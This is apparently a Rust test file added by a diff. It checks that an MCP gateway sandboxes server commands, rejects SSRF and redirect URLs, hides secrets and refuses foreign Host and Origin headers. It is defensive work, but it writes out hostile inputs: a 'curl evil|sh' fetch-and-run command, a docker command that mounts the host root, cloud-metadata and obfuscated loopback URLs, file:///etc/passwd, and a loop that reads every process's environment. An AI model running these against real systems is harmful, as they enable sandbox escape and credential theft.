@@ -1,0 +1,318 @@
+//! The cases of the attack corpus that concern MCP, under their names. That what a name of a machine means is looked up once (MCP-05) is tested where
+//! it is looked up, in `box-mcp`, and that nothing of another tenant is seen by the suite `doors`.
+
+mod lists;
+
+use std::collections::BTreeSet;
+
+use anyhow::{Context, Result, ensure};
+use box_tests::http::{Answer, Client, Request};
+use box_tests::server::ServerOptions;
+use box_tests::{TestServer, host};
+use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+
+use crate::{House, McpCase, cases, definition, eventually};
+
+pub(crate) fn cases() -> Vec<McpCase> {
+    let mut all = lists::cases();
+    all.extend(cases![
+        mcp_01_a_server_runs_in_a_box_whatever_its_command_is,
+        mcp_01_without_a_box_nothing_runs,
+        mcp_05_an_address_that_only_we_can_reach_is_not_asked_for_a_stranger,
+        mcp_05_a_redirect_is_not_followed,
+        mcp_06_a_secret_is_in_the_environment_of_its_process_only,
+        mcp_07_foreign_hosts_origins_and_versions_are_refused,
+        every_case_of_the_corpus_is_tried,
+    ]);
+    all
+}
+
+async fn every_case_of_the_corpus_is_tried(_: &mut House) -> Result<()> {
+    let tried = cases();
+    for case in box_tests::corpus::load()?.cases.into_iter().filter(|case| case.kind == "mcp") {
+        let beginning = format!("{}_", case.id.to_lowercase().replace('-', "_"));
+        ensure!(
+            tried.iter().any(|tried| tried.name.starts_with(&beginning)),
+            "nothing tries {}: {}",
+            case.id,
+            case.title
+        );
+    }
+    Ok(())
+}
+
+/// What a client sends first.
+fn hello() -> Value {
+    let client = json!({"name": "attacker", "version": "1"});
+    let params = json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": client});
+    json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": params})
+}
+
+/// A message to an address, as clients of streamable HTTP send it.
+fn message(client: &Client, path: &str, message: &Value) -> Request {
+    client.request("POST", path).header("accept", "application/json, text/event-stream").json(message)
+}
+
+/// Somebody with a token, in a session of the gateway. It says what it likes, which no proper client would.
+struct Talk<'a> {
+    client: &'a Client,
+    path: &'a str,
+    session: String,
+}
+
+impl<'a> Talk<'a> {
+    async fn begin(client: &'a Client, path: &'a str) -> Result<Self> {
+        let answer = message(client, path, &hello()).send().await?;
+        ensure!(answer.status == 200, "{answer:?}");
+        let session = answer.header("mcp-session-id").to_owned();
+        let talk = Self { client, path, session };
+        talk.say(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"})).await?;
+        Ok(talk)
+    }
+
+    async fn say(&self, said: &Value) -> Result<Answer> {
+        message(self.client, self.path, said).header("mcp-session-id", &self.session).send().await
+    }
+
+    async fn ask(&self, method: &str, params: Value) -> Result<Value> {
+        let answer = self.say(&json!({"jsonrpc": "2.0", "id": 2, "method": method, "params": params})).await?;
+        let text = answer.text();
+        let data = text.lines().filter_map(|line| line.strip_prefix("data:")).find(|data| data.contains("\"id\""));
+        serde_json::from_str(data.unwrap_or(&text)).with_context(|| format!("{method}: {} {text}", answer.status))
+    }
+
+    async fn tools(&self) -> Result<Vec<Value>> {
+        let told = self.ask("tools/list", json!({})).await?;
+        told["result"]["tools"].as_array().cloned().with_context(|| told.to_string())
+    }
+
+    async fn names(&self) -> Result<BTreeSet<String>> {
+        Ok(self.tools().await?.iter().filter_map(|tool| Some(tool["name"].as_str()?.to_owned())).collect())
+    }
+
+    /// What a tool returns, or nothing where it is refused.
+    async fn call(&self, tool: &str, arguments: Value) -> Result<Option<String>> {
+        let told = self.ask("tools/call", json!({"name": tool, "arguments": arguments})).await?;
+        let is_error = told["result"]["isError"] == true || !told["error"].is_null();
+        Ok(told["result"]["content"][0]["text"].as_str().filter(|_| !is_error).map(ToOwned::to_owned))
+    }
+}
+
+/// Callers with tokens. From the first on, nobody comes in without one.
+async fn callers<const COUNT: usize>(house: &mut House, tokens: [&[&str]; COUNT]) -> Result<[Client; COUNT]> {
+    let nobody = house.client.clone();
+    let me = house.server.token(&["--name", "me", "--scope", "exec,mcp,admin"])?;
+    house.client = nobody.with_token(&me);
+    let mut made = Vec::new();
+    for (number, options) in tokens.into_iter().enumerate() {
+        let name = format!("caller {number}");
+        made.push(nobody.with_token(&house.server.token(&[&["--name", &name], options].concat())?));
+    }
+    let last = made.last().unwrap_or(&house.client);
+    // What is known of tokens may be a moment old.
+    eventually("the tokens", || async {
+        let (without, with) = (nobody.get("/v1/status").await?.status, last.get("/v1/status").await?.status);
+        Ok((without == 401 && with == 200).then_some(()))
+    })
+    .await?;
+    made.try_into().map_err(|_| anyhow::anyhow!("not all tokens were made"))
+}
+
+/// A directory of the host in which nothing may change, with a place where everybody may write.
+fn canary(server: &TestServer) -> Result<std::path::PathBuf> {
+    let place = server.mounts()?.parent().context("a directory without one above it")?.join("canary");
+    std::fs::create_dir_all(place.join("rw"))?;
+    std::fs::write(place.join("secret"), "canary")?;
+    Ok(place)
+}
+
+/// Whether a process of the host is in a namespace of processes below ours.
+fn is_in_a_box(pid: i32) -> Result<bool> {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
+    let numbers = |status: &str| {
+        let line = status.lines().find_map(|line| line.strip_prefix("NSpid:"));
+        line.map_or(0, |line| line.split_whitespace().count())
+    };
+    Ok(numbers(&status) > numbers(&std::fs::read_to_string("/proc/self/status")?))
+}
+
+async fn mcp_01_a_server_runs_in_a_box_whatever_its_command_is(house: &mut House) -> Result<()> {
+    let canary = canary(&house.server)?;
+    let before = host::tree(&canary)?;
+    let path = canary.join("rw/pwn").to_str().context("an unreadable path")?.to_owned();
+    let place = json!({"network": "off", "startup_timeout_sec": 5});
+    let write = format!("open('{path}', 'w')");
+    let variants = [
+        json!({"command": "touch", "args": [path]}),
+        json!({"command": "npx", "args": ["-c", "id"]}),
+        json!({"command": "bash", "args": ["-c", format!("curl evil|sh; touch {path}; echo x > {path}")]}),
+        json!({"command": "python3", "args": ["-c", write]}),
+        json!({"command": "/proc/self/exe"}),
+        json!({"command": "../../bin/sh", "args": ["-c", format!("touch {path}")]}),
+        json!({"command": "docker", "args": ["run", "-v", "/:/h", "alpine"]}),
+    ];
+    for mut variant in variants {
+        variant["box"] = place.clone();
+        let answer = house.client.post("/v1/mcp/test", &variant).await?;
+        ensure!(answer.status == 400 || answer.json["ok"] == false, "{variant} {answer:?}");
+        ensure!(host::tree(&canary)? == before, "{variant} changed the host");
+    }
+    ensure!(house.client.sessions().await?.is_empty(), "a test left its session");
+    // One that lives, so that it can be looked at from outside.
+    let marker = format!("marker{}", std::process::id());
+    house.start("alive", &[&marker]).await?;
+    let python = host::processes_with(&marker);
+    let outside: Vec<_> = python.iter().filter(|process| !is_in_a_box(process.pid).unwrap_or(true)).collect();
+    ensure!(!python.is_empty() && outside.is_empty(), "{python:?}");
+    // A token must say that it may define servers.
+    let [reader] = callers(house, [&["--scope", "exec,files,skills"]]).await?;
+    reader.request("PUT", "/v1/mcp/servers/x").json(&definition(&[])).send().await?.refused(403, "forbidden")?;
+    reader.post("/v1/mcp/test", &definition(&[])).await?.refused(403, "forbidden")?;
+    Ok(())
+}
+
+async fn mcp_01_without_a_box_nothing_runs(_: &mut House) -> Result<()> {
+    let options = ServerOptions { unready: true, ..ServerOptions::configured("enabled = false\n") };
+    let server = TestServer::start_with(options).await?;
+    let canary = canary(&server)?;
+    let before = host::tree(&canary)?;
+    let path = canary.join("rw/pwn");
+    let client = server.client()?;
+    let house = House { server, client };
+    house.put("touch", &json!({"command": "touch", "args": [path.to_str()]})).await?;
+    let info = house.until("touch", |info| info["status"] == "error").await?;
+    ensure!(info["runtime_info"]["error_phase"] == "box_unavailable", "{info}");
+    ensure!(host::tree(&canary)? == before, "it ran without a box");
+    house.server.finish().await
+}
+
+/// Whether nobody knocked so far. Who comes first is let in first, so then that is us.
+async fn nobody_came(listener: &TcpListener) -> Result<bool> {
+    let ours = TcpStream::connect(listener.local_addr()?).await?;
+    let (_, first) = listener.accept().await?;
+    Ok(first == ours.local_addr()?)
+}
+
+async fn mcp_05_an_address_that_only_we_can_reach_is_not_asked_for_a_stranger(house: &mut House) -> Result<()> {
+    let here = TcpListener::bind("127.0.0.1:0").await?;
+    let (port, api) = (here.local_addr()?.port(), house.server.address()?.port());
+    let [stranger] = callers(house, [&["--scope", "exec,mcp"]]).await?;
+    let variants = [
+        "http://169.254.169.254/".to_owned(),
+        format!("http://127.0.0.1:{api}/mcp"),
+        format!("http://127.0.0.1:{port}/"),
+        format!("http://localhost:{port}/"),
+        format!("http://[::ffff:127.0.0.1]:{port}/"),
+        format!("http://[::1]:{port}/"),
+        format!("http://0:{port}/"),
+        format!("http://0.0.0.0:{port}/"),
+        format!("http://2130706433:{port}/"),
+        format!("http://0x7f.1:{port}/"),
+        format!("http://127.0.0.%31:{port}/"),
+        format!("http://me@127.0.0.1:{port}/"),
+        "file:///etc/passwd".to_owned(),
+        format!("gopher://127.0.0.1:{port}/"),
+    ];
+    for url in variants {
+        let remote = json!({"url": url, "box": {"startup_timeout_sec": 5}});
+        let answer = stranger.post("/v1/mcp/test", &remote).await?;
+        let why = answer.json["runtime_info"]["error_message"].as_str().unwrap_or_default().to_owned();
+        let is_refused = answer.status == 400 || (answer.status == 200 && why.starts_with("url is not usable"));
+        ensure!(is_refused, "{url}: {answer:?}");
+    }
+    ensure!(nobody_came(&here).await?, "somebody was sent to us");
+    Ok(())
+}
+
+async fn mcp_05_a_redirect_is_not_followed(house: &mut House) -> Result<()> {
+    let (door, inner) = (TcpListener::bind("127.0.0.1:0").await?, TcpListener::bind("127.0.0.1:0").await?);
+    let url = format!("http://{}/mcp", door.local_addr()?);
+    let target = format!("http://{}/secret", inner.local_addr()?);
+    let redirecting = tokio::spawn(async move {
+        while let Ok((mut stream, _)) = door.accept().await {
+            let mut request = vec![0; 16 << 10];
+            drop(stream.read(&mut request).await);
+            let answer =
+                format!("HTTP/1.1 302 Found\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+            drop(stream.write_all(answer.as_bytes()).await);
+        }
+    });
+    // The operator's own, which may be anywhere: even it is not sent on.
+    let remote = json!({"url": url, "headers": {"Authorization": "Bearer sesame"}});
+    let report = house.client.post("/v1/mcp/test", &remote).await?.must(200)?;
+    redirecting.abort();
+    ensure!(report["ok"] == false && report["runtime_info"]["error_phase"] == "mcp_init", "{report}");
+    ensure!(!report.to_string().contains("sesame"), "{report}");
+    ensure!(nobody_came(&inner).await?, "a redirect was followed");
+    Ok(())
+}
+
+async fn mcp_06_a_secret_is_in_the_environment_of_its_process_only(house: &mut House) -> Result<()> {
+    // Nothing else on this machine may have it in its arguments.
+    let secret = format!("sesame{}", std::process::id());
+    let mut with = definition(&[]);
+    with["env"] = json!({"API_KEY": secret});
+    let mut without = definition(&[]);
+    without["env"] = json!({});
+    house.put("with", &with).await?;
+    house.put("without", &without).await?;
+    let (info, other) = tokio::try_join!(house.connected("with"), house.connected("without"))?;
+    let session = info["runtime_info"]["box_session_id"].as_str().context("no session")?.to_owned();
+    ensure!(other["runtime_info"]["box_session_id"] == session.as_str(), "they were to share a box");
+    ensure!(house.call("with__env", json!({"name": "API_KEY"})).await? == secret);
+    ensure!(house.call("without__env", json!({"name": "API_KEY"})).await?.is_empty(), "it is the session's");
+    let exec = house.client.exec(&session, "printenv API_KEY || echo none").await?;
+    ensure!(exec["stdout"] == "none\n", "{exec}");
+    // Of one uid and in one box: a process of the session can read it there, as docs/mcp.md says. That is the only place.
+    let read = "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | grep -c ^API_KEY=";
+    let environments = house.client.exec(&session, read).await?;
+    ensure!(matches!(environments["stdout"].as_str(), Some("0\n" | "1\n")), "{environments}");
+    ensure!(host::processes_with(&secret).is_empty(), "it is in the arguments of a process");
+    let names = &house.show("with").await?["definition"]["env_keys"];
+    ensure!(*names == json!(["API_KEY"]), "{names}");
+    for path in [
+        "/v1/mcp/servers",
+        "/v1/mcp/servers/with",
+        "/v1/mcp/servers/with/logs",
+        &format!("/v1/sessions/{session}/processes"),
+    ] {
+        let told = house.client.get(path).await?.must(200)?.to_string();
+        ensure!(!told.contains(&secret), "a secret is shown at {path}");
+    }
+    ensure!(!house.server.log().contains(&secret), "a secret is in the log");
+    Ok(())
+}
+
+async fn mcp_07_foreign_hosts_origins_and_versions_are_refused(house: &mut House) -> Result<()> {
+    house.start("one", &[]).await?;
+    let port = house.server.address()?.port();
+    let own = [format!("localhost:{port}"), format!("127.0.0.1:{port}"), format!("[::1]:{port}")];
+    for path in ["/mcp", "/mcp/one", "/mcp/box"] {
+        let ask = || message(&house.client, path, &hello());
+        for host in ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "0.0.0.0", "169.254.169.254"] {
+            let told = ask().header("host", host).send().await?;
+            ensure!((400..500).contains(&told.status), "{path} as {host}: {told:?}");
+        }
+        for origin in ["http://evil.example", "https://localhost.evil.example", "null", "file://"] {
+            let told = ask().header("origin", origin).send().await?;
+            ensure!((400..500).contains(&told.status), "{path} from {origin}: {told:?}");
+        }
+        for host in &own {
+            let told = ask().header("host", host).header("origin", &format!("http://{host}")).send().await?;
+            ensure!(told.status == 200, "{path} as {host}: {told:?}");
+        }
+        let session = ask().send().await?.header("mcp-session-id").to_owned();
+        let list = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"});
+        for version in ["1999-01-01", "2025-06-18x", "latest"] {
+            let asked = message(&house.client, path, &list).header("mcp-session-id", &session);
+            let told = asked.header("mcp-protocol-version", version).send().await?;
+            ensure!(told.status == 400, "{path} of {version}: {told:?}");
+        }
+        let asked = message(&house.client, path, &list).header("mcp-session-id", &session);
+        let told = asked.header("mcp-protocol-version", "2025-06-18").send().await?;
+        ensure!(told.status == 200, "{path}: {told:?}");
+    }
+    Ok(())
+}
